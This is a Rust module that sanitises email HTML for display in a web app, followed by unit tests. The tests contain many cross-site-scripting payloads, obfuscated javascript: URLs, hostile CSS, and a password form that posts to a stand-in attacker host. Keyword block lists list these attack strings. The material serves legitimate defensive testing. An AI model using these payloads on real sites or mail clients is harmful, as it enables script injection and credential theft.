//! Makes a message's HTML safe to show inside the host's page (`mailMessages:get`).
//!
//! An allow-list sanitiser (ammonia over html5ever, so the HTML is parsed the way a browser parses
//! it) plus a pass over the attributes that can load something: link and image URLs, `srcset`,
//! `background`, and inline `style`. The policy is written down in docs/security.md; in short:
//! no scripts, no event handlers, no forms, frames, objects, SVG or MathML, no stylesheets, no URL
//! schemes other than http(s)/mailto/tel on links, images only from `cid:` parts of the message
//! (served by the sidecar), small `data:` raster images, or, when the user asks for them, remote
//! http(s) images; every link opens in a new tab without a referrer or an opener.

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

/// 1×1 transparent GIF shown where a remote image was blocked.
pub const BLOCKED_IMAGE: &str =
    "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7";

#[derive(Debug, Default, Clone)]
pub struct Options {
    /// Keep http(s) images (img src/srcset, `background`, CSS `url()`).
    pub allow_remote_images: bool,
    /// Content-ID (without `<>`, any case) to the URL the page loads that part from.
    pub inline_images: HashMap<String, String>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sanitized {
    pub html: String,
    /// At least one remote image was replaced or removed.
    pub remote_images_blocked: bool,
}

const TAGS: &[&str] = &[
    "a",
    "abbr",
    "acronym",
    "address",
    "article",
    "aside",
    "b",
    "bdi",
    "bdo",
    "big",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "font",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "main",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
];

/// Removed together with everything inside them.
const DROPPED_WITH_CONTENT: &[&str] = &[
    "script",
    "style",
    "title",
    "noscript",
    "template",
    "iframe",
    "frame",
    "frameset",
    "noframes",
    "object",
    "applet",
    "embed",
    "form",
    "textarea",
    "select",
    "button",
    "svg",
    "math",
    "audio",
    "video",
    "canvas",
    "xmp",
    "noembed",
    "plaintext",
];

const GENERIC_ATTRIBUTES: &[&str] = &[
    "lang", "title", "dir", "style", "align", "valign", "width", "height", "bgcolor",
];

const TAG_ATTRIBUTES: &[(&str, &[&str])] = &[
    ("a", &["href"]),
    (
        "img",
        &["src", "srcset", "alt", "border", "hspace", "vspace"],
    ),
    (
        "table",
        &[
            "border",
            "cellpadding",
            "cellspacing",
            "background",
            "summary",
        ],
    ),
    (
        "td",
        &[
            "colspan",
            "rowspan",
            "nowrap",
            "background",
            "scope",
            "abbr",
        ],
    ),
    (
        "th",
        &[
            "colspan",
            "rowspan",
            "nowrap",
            "background",
            "scope",
            "abbr",
        ],
    ),
    ("font", &["color", "face", "size"]),
    ("ol", &["start", "type", "reversed"]),
    ("ul", &["type"]),
    ("li", &["value", "type"]),
    ("col", &["span"]),
    ("colgroup", &["span"]),
    ("hr", &["size", "noshade", "color"]),
    ("del", &["datetime"]),
    ("ins", &["datetime"]),
    ("time", &["datetime"]),
    ("details", &["open"]),
];

/// Schemes that survive ammonia's own URL check; the filter below narrows them per attribute.
const URL_SCHEMES: &[&str] = &["http", "https", "mailto", "tel", "cid", "data"];

const DATA_IMAGE_TYPES: &[&str] = &[
    "image/png",
    "image/gif",
    "image/jpeg",
    "image/jpg",
    "image/webp",
    "image/bmp",
];

pub fn sanitize(html: &str, options: &Options) -> Sanitized {
    let blocked = Arc::new(AtomicBool::new(false));
    let ctx = Arc::new(Ctx {
        allow_remote: options.allow_remote_images,
        inline: options
            .inline_images
            .iter()
            .map(|(k, v)| (normalise_cid(k), v.clone()))
            .collect(),
        blocked: blocked.clone(),
    });
    let mut builder = ammonia::Builder::empty();
    builder
        .tags(TAGS.iter().copied().collect())
        .clean_content_tags(DROPPED_WITH_CONTENT.iter().copied().collect())
        .generic_attributes(GENERIC_ATTRIBUTES.iter().copied().collect())
        .tag_attributes(
            TAG_ATTRIBUTES
                .iter()
                .map(|(tag, attrs)| (*tag, attrs.iter().copied().collect::<HashSet<_>>()))
                .collect(),
        )
        .url_schemes(URL_SCHEMES.iter().copied().collect())
        // Relative URLs are dropped by the filter (it sees the original value); the filter's own
        // rewrites to the sidecar's attachment URL are relative and must pass.
        .url_relative(ammonia::UrlRelative::PassThrough)
        .link_rel(Some("noopener noreferrer"))
        .set_tag_attribute_value("a", "target", "_blank")
        .strip_comments(true)
        .attribute_filter(move |element, attribute, value| ctx.filter(element, attribute, value));
    let html = builder.clean(html).to_string();
    Sanitized {
        html,
        remote_images_blocked: blocked.load(Ordering::Relaxed),
    }
}

struct Ctx {
    allow_remote: bool,
    inline: HashMap<String, String>,
    blocked: Arc<AtomicBool>,
}

/// What a URL in an attribute points at.
#[derive(Debug, PartialEq, Eq)]
enum Target {
    Remote(String),
    Cid(String),
    DataImage,
    Link,
    Other,
}

fn classify(value: &str) -> Target {
    let v = value.trim();
    if v.starts_with("//") {
        // Protocol-relative: remote in the page's scheme.
        return Target::Remote(format!("https:{v}"));
    }
    match url::Url::parse(v) {
        Ok(u) => match u.scheme() {
            "http" | "https" => Target::Remote(u.to_string()),
            "cid" => Target::Cid(u.path().to_string()),
            "mailto" | "tel" => Target::Link,
            "data" => {
                let media = u
                    .path()
                    .split([';', ','])
                    .next()
                    .unwrap_or_default()
                    .trim()
                    .to_ascii_lowercase();
                if DATA_IMAGE_TYPES.contains(&media.as_str()) && u.path().contains(";base64,") {
                    Target::DataImage
                } else {
                    Target::Other
                }
            }
            _ => Target::Other,
        },
        Err(_) => Target::Other,
    }
}

/// Content-IDs are compared without angle brackets, percent-decoding (RFC 2392) and case.
fn normalise_cid(cid: &str) -> String {
    let decoded = percent_decode(cid.trim());
    decoded
        .trim()
        .trim_start_matches('<')
        .trim_end_matches('>')
        .to_lowercase()
}

fn percent_decode(s: &str) -> String {
    url::form_urlencoded::parse(format!("x={}", s.replace('+', "%2B")).as_bytes())
        .next()
        .map(|(_, v)| v.into_owned())
        .unwrap_or_else(|| s.to_string())
}

impl Ctx {
    fn block(&self) {
        self.blocked.store(true, Ordering::Relaxed);
    }

    fn cid_url(&self, cid: &str) -> Option<String> {
        self.inline.get(&normalise_cid(cid)).cloned()
    }

    fn filter<'a>(&self, element: &str, attribute: &str, value: &'a str) -> Option<Cow<'a, str>> {
        match attribute {
            "href" => match classify(value) {
                Target::Remote(_) | Target::Link => Some(Cow::Borrowed(value)),
                _ => None,
            },
            "src" if element == "img" => self.image(value, true),
            "background" => self.image(value, false),
            "srcset" => self.srcset(value),
            "style" => self.style(value).map(Cow::Owned),
            _ => Some(Cow::Borrowed(value)),
        }
    }

    /// An image URL: `cid:` rewritten to the sidecar, remote kept only when allowed (else the
    /// placeholder, or nothing where no placeholder fits), `data:` raster images kept.
    fn image<'a>(&self, value: &'a str, placeholder: bool) -> Option<Cow<'a, str>> {
        match classify(value) {
            Target::Cid(cid) => self.cid_url(&cid).map(Cow::Owned),
            Target::DataImage => Some(Cow::Borrowed(value)),
            Target::Remote(url) if self.allow_remote => Some(Cow::Owned(url)),
            Target::Remote(_) => {
                self.block();
                placeholder.then_some(Cow::Borrowed(BLOCKED_IMAGE))
            }
            Target::Link | Target::Other => None,
        }
    }

    fn srcset<'a>(&self, value: &'a str) -> Option<Cow<'a, str>> {
        let mut kept = Vec::new();
        for candidate in value.split(',') {
            let mut parts = candidate.split_whitespace();
            let Some(url) = parts.next() else { continue };
            let descriptor: Vec<&str> = parts.collect();
            match classify(url) {
                Target::Remote(u) if self.allow_remote => kept.push(
                    std::iter::once(u.as_str())
                        .chain(descriptor.iter().copied())
                        .collect::<Vec<_>>()
                        .join(" "),
                ),
                Target::Remote(_) => self.block(),
                _ => {}
            }
        }
        if !self.allow_remote || kept.is_empty() {
            return None;
        }
        Some(Cow::Owned(kept.join(", ")))
    }

    /// Inline CSS: escapes and comments resolved first (so `u\72l(` is seen as `url(`), then
    /// each declaration is kept, rewritten (`cid:` images) or dropped.
    fn style(&self, value: &str) -> Option<String> {
        let css = decode_css(value);
        let mut out = Vec::new();
        for decl in split_top_level(&css, ';') {
            let Some((prop, val)) = decl.split_once(':') else {
                continue;
            };
            let prop = prop.trim().to_ascii_lowercase();
            let val = val.trim();
            if prop.is_empty()
                || val.is_empty()
                || !prop.bytes().all(|b| b.is_ascii_lowercase() || b == b'-')
                // Positioned content could cover the host page (click-jacking inside the app).
                || matches!(prop.as_str(), "position" | "behavior" | "-moz-binding")
            {
                continue;
            }
            let lower = val.to_ascii_lowercase();
            if [
                "expression",
                "javascript:",
                "vbscript:",
                "@import",
                "image-set",
                "image(",
                "cross-fade",
                "element(",
                "paint(",
            ]
            .iter()
            .any(|bad| lower.contains(bad))
                || val.contains(['<', '>', '\\', '{', '}'])
            {
                continue;
            }
            let Some(val) = self.css_urls(val) else {
                continue;
            };
            out.push(format!("{prop}: {val}"));
        }
        (!out.is_empty()).then(|| out.join("; "))
    }

    /// Rewrites every `url(...)` in a declaration value; `None` drops the declaration.
    fn css_urls(&self, val: &str) -> Option<String> {
        let lower = val.to_ascii_lowercase();
        if !lower.contains("url(") {
            return Some(val.to_string());
        }
        let mut out = String::with_capacity(val.len());
        let mut rest = val;
        loop {
            let Some(start) = rest.to_ascii_lowercase().find("url(") else {
                out.push_str(rest);
                return Some(out);
            };
            out.push_str(&rest[..start]);
            let after = &rest[start + 4..];
            let end = after.find(')')?;
            let raw = after[..end].trim().trim_matches(['"', '\'']).trim();
            let url = match classify(raw) {
                Target::Cid(cid) => self.cid_url(&cid)?,
                Target::DataImage => raw.to_string(),
                Target::Remote(url) if self.allow_remote => url,
                Target::Remote(_) => {
                    self.block();
                    return None;
                }
                Target::Link | Target::Other => return None,
            };
            if url.contains(['"', '(', ')']) {
                return None;
            }
            out.push_str("url(\"");
            out.push_str(&url);
            out.push_str("\")");
            rest = &after[end + 1..];
        }
    }
}

/// Resolves CSS comments and backslash escapes, the ways to spell a word the filter looks for.
fn decode_css(s: &str) -> String {
    let chars: Vec<char> = s.chars().collect();
    let mut out = String::with_capacity(s.len());
    let mut i = 0;
    while i < chars.len() {
        match chars[i] {
            '/' if chars.get(i + 1) == Some(&'*') => {
                i += 2;
                while i < chars.len() && !(chars[i] == '*' && chars.get(i + 1) == Some(&'/')) {
                    i += 1;
                }
                i += 2;
            }
            '\\' => {
                i += 1;
                let mut hex = String::new();
                while i < chars.len() && hex.len() < 6 && chars[i].is_ascii_hexdigit() {
                    hex.push(chars[i]);
                    i += 1;
                }
                if hex.is_empty() {
                    match chars.get(i) {
                        Some('\n') | None => {}
                        Some(c) => out.push(*c),
                    }
                    i += 1;
                } else {
                    if chars.get(i).is_some_and(|c| c.is_whitespace()) {
                        i += 1;
                    }
                    let c = u32::from_str_radix(&hex, 16)
                        .ok()
                        .and_then(char::from_u32)
                        .filter(|c| *c != '\0')
                        .unwrap_or('\u{FFFD}');
                    out.push(c);
                }
            }
            c => {
                out.push(c);
                i += 1;
            }
        }
    }
    out
}

/// Splits on `sep` outside quotes and parentheses.
fn split_top_level(s: &str, sep: char) -> Vec<&str> {
    let mut parts = Vec::new();
    let mut depth = 0i32;
    let mut quote: Option<char> = None;
    let mut start = 0;
    for (i, c) in s.char_indices() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => quote = Some(c),
            (None, '(') => depth += 1,
            (None, ')') => depth -= 1,
            (None, c) if c == sep && depth <= 0 => {
                parts.push(&s[start..i]);
                start = i + c.len_utf8();
            }
            _ => {}
        }
    }
    parts.push(&s[start..]);
    parts
}

#[cfg(test)]
mod tests {
    use super::*;

    fn clean(html: &str) -> Sanitized {
        let mut inline = HashMap::new();
        inline.insert(
            "logo@example.test".to_string(),
            "/api/mailAttachments:download?filterByTk=7&inline=1".to_string(),
        );
        sanitize(
            html,
            &Options {
                allow_remote_images: false,
                inline_images: inline,
            },
        )
    }

    fn html(s: &str) -> String {
        clean(s).html
    }

    /// Nothing that runs code or loads from elsewhere survives, whatever the spelling.
    fn assert_inert(out: &str) {
        let lower = out.to_ascii_lowercase();
        for bad in [
            "<script",
            "javascript",
            "vbscript",
            "onerror",
            "onload",
            "onclick",
            "onmouseover",
            "<iframe",
            "<form",
            "<input",
            "<svg",
            "<math",
            "<meta",
            "<base",
            "<link",
            "<object",
            "<embed",
            "<style",
            "expression",
            "http://evil",
            "https://evil",
            "//evil",
        ] {
            assert!(!lower.contains(bad), "{bad:?} survived in {out}");
        }
    }

    #[test]
    fn scripts_and_handlers_are_removed() {
        for input in [
            "<p>hi<script>alert(1)</script></p>",
            "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"cid:logo@example.test\" onload=\"alert(1)\">",
            "<svg onload=alert(1)><circle r=1 /></svg>",
            "<svg><script>alert(1)</script></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<svg><iframe><a title=\"</iframe><img src onerror=alert(1)>\">t</a></iframe></svg>",
            "<body onload=alert(1)>x</body>",
            "<div onmouseover=\"alert(1)\">x</div>",
            "<a href=\"https://example.test\" onclick=\"alert(1)\">x</a>",
            "<noscript><img src=x onerror=alert(1)></noscript>",
            "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
        ] {
            let out = html(input);
            assert_inert(&out);
        }
        assert_eq!(html("<p>hi<script>alert(1)</script></p>"), "<p>hi</p>");
    }

    #[test]
    fn dangerous_link_schemes_are_removed_however_spelled() {
        for href in [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " javascript:alert(1)",
            "java\tscript:alert(1)",
            "java&#x09;script:alert(1)",
            "&#106;avascript:alert(1)",
            "&#x6A;&#x61;&#x76;&#x61;script:alert(1)",
            "javascript&colon;alert(1)",
            "\u{1}javascript:alert(1)",
            "vbscript:msgbox(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "data:image/png;base64,iVBORw0KGgo=",
            "cid:logo@example.test",
            "relative/page.html",
            "#top",
        ] {
            let out = html(&format!("<a href=\"{href}\">x</a>"));
            assert!(!out.contains("href"), "{href:?} kept: {out}");
            assert_inert(&out);
        }
    }

    #[test]
    fn links_open_in_a_new_tab_without_opener_or_referrer() {
        let out = html(
            "<a href=\"https://example.test/a?b=1&amp;c=2\" target=\"_self\" rel=\"opener\">x</a>",
        );
        assert!(
            out.contains("href=\"https://example.test/a?b=1&amp;c=2\""),
            "{out}"
        );
        assert!(out.contains("rel=\"noopener noreferrer\""), "{out}");
        assert!(out.contains("target=\"_blank\""), "{out}");
        assert!(
            !out.contains("_self") && !out.contains("\"opener\""),
            "{out}"
        );
        let out = html("<a href=\"mailto:ann@example.test\">mail</a>");
        assert!(out.contains("href=\"mailto:ann@example.test\""), "{out}");
    }

    #[test]
    fn forms_frames_objects_and_head_elements_are_dropped() {
        for input in [
            "<form action=\"https://evil.test/steal\"><input name=p type=password><button>Log in</button></form>",
            "<iframe src=\"https://evil.test\"></iframe>",
            "<frameset><frame src=\"https://evil.test\"></frameset>",
            "<object data=\"https://evil.test/x.swf\"></object><embed src=\"https://evil.test/x.swf\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test\">",
            "<base href=\"https://evil.test/\"><a href=\"x\">x</a>",
            "<link rel=stylesheet href=\"https://evil.test/x.css\">",
            "<style>@import url(https://evil.test/x.css); body{background:url(https://evil.test/p)}</style>",
            "<title>Evil</title>",
            "<textarea>x</textarea><select><option>y</option></select>",
            "<video poster=\"https://evil.test/p.png\"><source src=\"https://evil.test/v.mp4\"></video>",
        ] {
            let out = html(input);
            assert_inert(&out);
            assert!(!out.contains("Log in") && !out.contains("Evil"), "{out}");
        }
    }

    #[test]
    fn remote_images_are_blocked_unless_allowed() {
        let input = "<img src=\"https://tracker.example/p.gif\" alt=\"logo\" width=\"1\">\
            <img srcset=\"https://img.example/a.png 1x, https://img.example/b.png 2x\">\
            <table background=\"http://img.example/bg.png\"><tr><td>x</td></tr></table>\
            <div style=\"color: red; background-image: url('https://img.example/bg.png')\">y</div>\
            <img src=\"//img.example/pr.png\">";
        let out = clean(input);
        assert!(out.remote_images_blocked);
        assert!(!out.html.contains("example/"), "{}", out.html);
        assert!(out.html.contains(BLOCKED_IMAGE));
        assert!(out.html.contains("alt=\"logo\""));
        assert!(out.html.contains("style=\"color: red\""), "{}", out.html);

        let allowed = sanitize(
            input,
            &Options {
                allow_remote_images: true,
                inline_images: HashMap::new(),
            },
        );
        assert!(!allowed.remote_images_blocked);
        for url in [
            "https://tracker.example/p.gif",
            "https://img.example/a.png 1x, https://img.example/b.png 2x",
            "background=\"http://img.example/bg.png\"",
            "url(&quot;https://img.example/bg.png&quot;)",
            "https://img.example/pr.png",
        ] {
            assert!(
                allowed.html.contains(url),
                "{url} missing from {}",
                allowed.html
            );
        }
        let plain = clean("<p>No images</p>");
        assert!(!plain.remote_images_blocked);
    }

    #[test]
    fn cid_images_point_at_the_sidecar_and_unknown_ones_go() {
        let out = clean(
            "<img src=\"cid:logo@example.test\"><img src=\"CID:%3CLogo@Example.test%3E\">\
             <img src=\"cid:missing@x\"><div style=\"background: url(cid:logo@example.test)\">b</div>",
        );
        let url = "/api/mailAttachments:download?filterByTk=7&amp;inline=1";
        assert_eq!(out.html.matches(url).count(), 3, "{}", out.html);
        assert!(!out.html.contains("cid:"), "{}", out.html);
        assert!(!out.remote_images_blocked);
    }

    #[test]
    fn small_raster_data_images_stay_and_other_data_urls_go() {
        let png = "data:image/png;base64,iVBORw0KGgo=";
        assert!(html(&format!("<img src=\"{png}\">")).contains(png));
        for bad in [
            "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
            "data:text/html,<script>alert(1)</script>",
            "data:image/png,notbase64",
            "javascript:alert(1)",
            "x.png",
        ] {
            let out = html(&format!("<img src=\"{bad}\">"));
            assert!(!out.contains("src="), "{bad} kept: {out}");
        }
    }

    #[test]
    fn hostile_css_is_removed() {
        for style in [
            "width: expression(alert(1))",
            "width: EXPR/**/ESSION(alert(1))",
            "background: url(javascript:alert(1))",
            "background: url(\"javascript:alert(1)\")",
            "background-image: u\\72l(https://evil.test/x)",
            "background-image: \\75\\72\\6c(https://evil.test/x)",
            "behavior: url(https://evil.test/x.htc)",
            "-moz-binding: url(https://evil.test/x.xml#x)",
            "position: fixed; top: 0; left: 0",
            "background: image-set(\"https://evil.test/x.png\" 1x)",
            "list-style: url(vbscript:x)",
            "cursor: url(data:text/html,x), auto",
        ] {
            let out = html(&format!("<div style=\"{style}\">x</div>"));
            assert_inert(&out);
            assert!(!out.contains("url("), "{style}: {out}");
            assert!(!out.contains("position"), "{style}: {out}");
        }
        let out =
            html("<p style=\"color:#333;font-family:'Helvetica Neue',Arial;margin:0 0 8px\">t</p>");
        assert!(
            out.contains("color: #333; font-family: 'Helvetica Neue',Arial; margin: 0 0 8px"),
            "{out}"
        );
    }

    #[test]
    fn ordinary_mail_layout_is_kept() {
        let out = html(
            "<table width=\"600\" cellpadding=\"0\" bgcolor=\"#ffffff\"><tr><td align=\"center\" colspan=\"2\">\
             <font color=\"red\" face=\"Arial\">Hello</font><br><b>bold</b> <i>it</i></td></tr></table>\
             <blockquote>quoted</blockquote><ul><li>one</li></ul><h1 class=\"x\" id=\"y\">T</h1>",
        );
        for keep in [
            "width=\"600\"",
            "cellpadding=\"0\"",
            "bgcolor=\"#ffffff\"",
            "colspan=\"2\"",
            "<font color=\"red\" face=\"Arial\">Hello</font>",
            "<blockquote>quoted</blockquote>",
            "<li>one</li>",
            "<h1>T</h1>",
        ] {
            assert!(out.contains(keep), "{keep} missing from {out}");
        }
    }

    #[test]
    fn css_decoding() {
        assert_eq!(decode_css("u\\72l(x)"), "url(x)");
        assert_eq!(decode_css("\\75 rl"), "url");
        assert_eq!(decode_css("a/* c */b"), "ab");
        assert_eq!(decode_css("\\\"q"), "\"q");
        assert_eq!(split_top_level("a:1; b:url(x;y); c:'p;q'", ';').len(), 3);
    }
}
